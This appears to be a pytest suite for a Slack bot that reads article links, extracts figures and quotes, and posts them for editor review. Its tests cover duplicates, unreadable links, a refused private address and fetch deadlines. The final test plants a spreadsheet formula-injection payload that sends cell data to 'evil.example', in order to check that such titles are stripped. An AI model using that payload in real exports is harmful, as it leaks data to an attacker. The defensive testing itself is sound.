"""`/stats ingest <link>` and "Extract figures" over HTTP: acknowledged at once, candidates threaded for review."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import Engine, func, select

from bot.config import Settings
from bot.local_slack import SlackStandIn
from bot.web import create_wsgi
from storage import roles
from storage.db import make_sessions
from storage.models import Quote, Source, Statistic, Status
from tests import ingest_site
from tests.conftest import SIGNING_SECRET, slack_settings
from tests.http_server import serving, static_site
from tests.slackapi.signing import (
    block_action_payload,
    interactive_body,
    post,
    signed_headers,
    slash_command_body,
)

GOLD = Path(__file__).parent / "gold" / "articles"
REVIEW = "C0REVIEW"
EDITOR = "U0EDITOR"


@pytest.fixture
def articles() -> Iterator[str]:
    poverty = (GOLD / "child-poverty-two-child-limit.txt").read_bytes()
    nspcc = next(GOLD.glob("*nspcc*.txt")).read_bytes()
    pages = {"/poverty": ("text/plain; charset=utf-8", poverty), "/nspcc": ("text/plain; charset=utf-8", nspcc),
             "/report.pdf": ("application/pdf", b"%PDF-1.7\n")}  # fmt: skip
    with serving(static_site(pages)) as url:
        yield url


@pytest.fixture
def settings(engine: Engine, standin: SlackStandIn) -> Settings:
    return slack_settings(engine, standin, review_channel=REVIEW, fetch_allow_loopback=True)

def ingest(server: str, standin: SlackStandIn, text: str) -> dict[str, Any]:
    body = slash_command_body("/stats", text, user_id="U0WRITER", response_url=standin.response_url("ingest"))
    status, _, raw = post(f"{server}/slack/events", body, signed_headers(body, SIGNING_SECRET))
    assert status == 200
    reply: dict[str, Any] = json.loads(raw)
    return reply


def last_response(standin: SlackStandIn) -> str:
    standin.wait_for("response_url")
    return str(standin.response_posts("ingest")[-1]["text"])


def count(engine: Engine, model: type[Statistic] | type[Quote], status: Status) -> int:
    with make_sessions(engine)() as session:
        return (
            session.scalar(select(func.count()).select_from(model).where(model.status == status.value)) or 0
        )


def test_an_article_link_is_acknowledged_at_once_and_its_candidates_are_threaded_for_review(
    server: str, standin: SlackStandIn, articles: str, engine: Engine
) -> None:
    reply = ingest(server, standin, f"ingest <{articles}/poverty|the article>")
    assert reply["response_type"] == "ephemeral" and "Reading" in reply["text"]
    done = last_response(standin)
    assert f"posted to <#{REVIEW}> for review" in done
    posts = [
        call.params for call in standin.calls("chat.postMessage") if call.params.get("channel") == REVIEW
    ]
    header, candidates = posts[0], posts[1:]
    assert "for review, sent by <@U0WRITER>" in header["text"] and "thread_ts" not in header
    pending = count(engine, Statistic, Status.PENDING) + count(engine, Quote, Status.PENDING)
    assert pending == len(candidates) > 0
    assert all(post["thread_ts"] for post in candidates)
    assert all(any(b["type"] == "actions" for b in post["blocks"]) for post in candidates)
    assert count(engine, Statistic, Status.PUBLISHED) == 2  # nothing extracted is published by itself
    assert standin.violations == []


def test_the_same_article_twice_creates_nothing_new(
    server: str, standin: SlackStandIn, articles: str, engine: Engine
) -> None:
    ingest(server, standin, f"ingest {articles}/poverty")
    last_response(standin)
    before = count(engine, Statistic, Status.PENDING), count(engine, Quote, Status.PENDING)
    standin.clear()
    ingest(server, standin, f"ingest {articles}/poverty")
    assert "Already stored" in last_response(standin)
    assert (count(engine, Statistic, Status.PENDING), count(engine, Quote, Status.PENDING)) == before
    assert [c for c in standin.calls("chat.postMessage") if c.params.get("channel") == REVIEW] == []


def test_figures_already_in_the_library_are_named_not_offered_again(
    server: str, standin: SlackStandIn, articles: str
) -> None:
    ingest(server, standin, f"ingest {articles}/nspcc")
    assert "Already stored, so not offered again: 2 figures" in last_response(standin)


@pytest.mark.parametrize(
    ("path", "message"),
    [("/missing", "404"), ("/report.pdf", "not PDFs or images")],
)
def test_a_link_that_cannot_be_read_gets_a_clear_reply_and_stores_nothing(
    server: str, standin: SlackStandIn, articles: str, engine: Engine, path: str, message: str
) -> None:
    ingest(server, standin, f"ingest {articles}{path}")
    answer = last_response(standin)
    assert "couldn't read that" in answer and message in answer
    assert count(engine, Statistic, Status.PENDING) == count(engine, Quote, Status.PENDING) == 0


def test_a_private_address_is_refused_in_production_settings(server: str, standin: SlackStandIn) -> None:
    ingest(server, standin, "ingest http://10.0.0.1/admin")
    assert "couldn't read that" in last_response(standin)


def test_ingest_without_a_link_explains_itself(server: str, standin: SlackStandIn) -> None:
    assert "Give me a link" in ingest(server, standin, "ingest")["text"]


def test_extract_figures_on_a_message_reads_its_text_and_an_editor_approves_a_candidate(
    server: str, standin: SlackStandIn, engine: Engine, home_id: int
) -> None:
    text = (
        "Ofcom found that 41% of children aged 8 to 17 had seen harmful content online in 2023. "
        "“We will hold platforms to account,” said Jane Doe, director of online safety at Ofcom."
    )
    payload = {
        "type": "message_action",
        "callback_id": "extract_figures",
        "trigger_id": "1.2.3",
        "team": {"id": "T0TEST", "domain": "test"},
        "user": {"id": "U0WRITER", "team_id": "T0TEST"},
        "channel": {"id": "C0CHAN", "name": "general"},
        "message": {"type": "message", "text": text, "ts": "1700000000.000100", "user": "U0AUTHOR"},
        "response_url": standin.response_url("ingest"),
        "action_ts": "1700000001.000100",
    }
    body = interactive_body(payload)
    status, _, _ = post(f"{server}/slack/events", body, signed_headers(body, SIGNING_SECRET))
    assert status == 200
    standin.wait_for("response_url", count=2)
    assert f"posted to <#{REVIEW}>" in str(standin.response_posts("ingest")[-1]["text"])
    with make_sessions(engine)() as session:
        pending = session.scalars(select(Statistic).where(Statistic.status == Status.PENDING.value)).one()
        assert pending.value == 41 and pending.unit == "percent"
        roles.add_editor(session, home_id, EDITOR)
        session.commit()
    approve = block_action_payload(
        "review_approve",
        json.dumps({"kind": "figure", "id": pending.id}),
        user_id=EDITOR,
        channel_id=REVIEW,
        response_url=standin.response_url("review"),
        message={"ts": "1700000000.000200", "text": "review"},
    )
    body = interactive_body(approve)
    post(f"{server}/slack/events", body, signed_headers(body, SIGNING_SECRET))
    standin.wait_for("chat.update")
    assert count(engine, Statistic, Status.PUBLISHED) == 3


def slow_server(engine: Engine, standin: SlackStandIn, **overrides: Any) -> Any:
    settings = slack_settings(engine, standin, review_channel=REVIEW, fetch_allow_loopback=True, **overrides)
    return serving(create_wsgi(settings))


def test_a_link_is_given_up_at_the_fetch_deadline_setting(
    engine: Engine, standin: SlackStandIn, home_id: int
) -> None:
    # The page answers after 2 s: with a one-second STATBOT_FETCH_DEADLINE the wait ends first.
    with ingest_site.serving() as site, slow_server(engine, standin, fetch_deadline=1.0) as server:
        assert "Reading" in ingest(server, standin, f"ingest {site.url}/slow")["text"]
        assert "took longer than 1 second" in last_response(standin)


def test_links_to_dripping_servers_do_not_hold_up_other_replies(
    engine: Engine, standin: SlackStandIn, home_id: int
) -> None:
    # Bolt runs lazy replies on five threads; five slow sites must not take them all. The deadline is long
    # here (two minutes) so that only a separate pool for reading can keep the export below moving.
    # The site inside the app: it hangs up when the test ends, so the app's readers finish before it stops.
    with slow_server(engine, standin, fetch_deadline=120.0) as server, ingest_site.serving() as dripping:
        for _ in range(5):
            assert "Reading" in ingest(server, standin, f"ingest {dripping.url}/drip-headers")["text"]
        body = slash_command_body(
            "/stats", "export facebook", user_id="U0ASKER", response_url=standin.response_url("x")
        )
        status, _, _ = post(f"{server}/slack/events", body, signed_headers(body, SIGNING_SECRET))
        assert status == 200
        standin.wait_for("files.completeUploadExternal", timeout=30)


def test_when_every_reader_is_busy_the_person_is_told_to_try_again(
    engine: Engine, standin: SlackStandIn, home_id: int
) -> None:
    with (
        slow_server(engine, standin, fetch_deadline=120.0, ingest_workers=1, ingest_queue=0) as server,
        ingest_site.serving() as dripping,
    ):
        assert "Reading" in ingest(server, standin, f"ingest {dripping.url}/drip-headers")["text"]
        assert (
            "try again in a few minutes"
            in ingest(server, standin, f"ingest {dripping.url}/drip-headers")["text"]
        )


def test_a_page_titled_like_a_formula_is_stored_without_that_title(
    server: str, standin: SlackStandIn, engine: Engine
) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Source")'
    body = (GOLD / "child-poverty-two-child-limit.txt").read_text(encoding="utf-8")
    page = (
        f"<html><head><title>{formula}</title><meta property='og:title' content='{formula}'></head>"
        f"<body><article><h1>{formula}</h1>"
        + "".join(f"<p>{line}</p>" for line in body.splitlines()[1:] if line.strip())
        + "</article></body></html>"
    )
    with serving(static_site({"/formula": ("text/html; charset=utf-8", page.encode())})) as site:
        ingest(server, standin, f"ingest {site}/formula")
        assert "for review" in last_response(standin)
    with make_sessions(engine)() as session:
        titles = set(session.scalars(select(Source.title)))
        texts = set(session.scalars(select(Statistic.measure))) | set(session.scalars(select(Quote.text)))
    assert count(engine, Statistic, Status.PENDING) > 0
    assert not any(text.startswith("=") for text in titles | texts)
